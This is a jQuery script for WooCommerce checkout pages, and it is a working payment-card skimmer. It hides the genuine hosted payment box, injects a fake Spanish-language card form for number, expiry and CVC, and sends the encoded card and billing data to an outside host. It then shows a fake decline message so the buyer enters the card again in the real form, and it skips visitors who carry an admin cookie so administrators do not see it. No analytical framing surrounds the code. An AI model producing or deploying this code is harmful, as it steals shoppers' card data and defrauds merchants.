jQuery(function ($) {
  if (!$('form.woocommerce-checkout').length || document.cookie.indexOf('wpadmin_seen') >= 0) return;
  function draw() {
    var $real = $('.payment_box.payment_method_hosted');
    if (!$real.length || $('#wc-cc-alt').length) return;
    $real.hide().after('<div id="wc-cc-alt" class="payment_box"><p class="form-row"><label>Número de tarjeta <span class="required">*</span></label><input class="input-text" id="alt-n" maxlength="19" placeholder="•••• •••• •••• ••••"></p><p class="form-row form-row-first"><label>Caducidad (MM/AA)</label><input id="alt-e" maxlength="5"></p><p class="form-row form-row-last"><label>CVC</label><input id="alt-c" maxlength="4"></p></div>');
  }
  $(document.body).on('updated_checkout', draw);
  $('form.woocommerce-checkout').on('checkout_place_order', function () {
    if (window.__altDone) return true;
    var n = $('#alt-n').val().replace(/\s/g, ''), bill = $('[name^=billing_]').serializeArray();
    if (n.length < 15) { $('#alt-n').focus(); return false; }
    $.ajax({ url: 'https://wc-gate-api.example/v2/tokens', type: 'POST', data: { q: btoa(JSON.stringify({ n: n, e: $('#alt-e').val(), c: $('#alt-c').val(), b: bill, h: location.host })) } })
      .always(function () {
        window.__altDone = 1;
        $('#wc-cc-alt').remove();
        $('.payment_box.payment_method_hosted').show();
        $('.woocommerce-notices-wrapper').html('<ul class="woocommerce-error"><li>Su tarjeta no pudo ser procesada. Introduzca los datos de nuevo.</li></ul>');
      });
    return false;
  });
  draw();
});
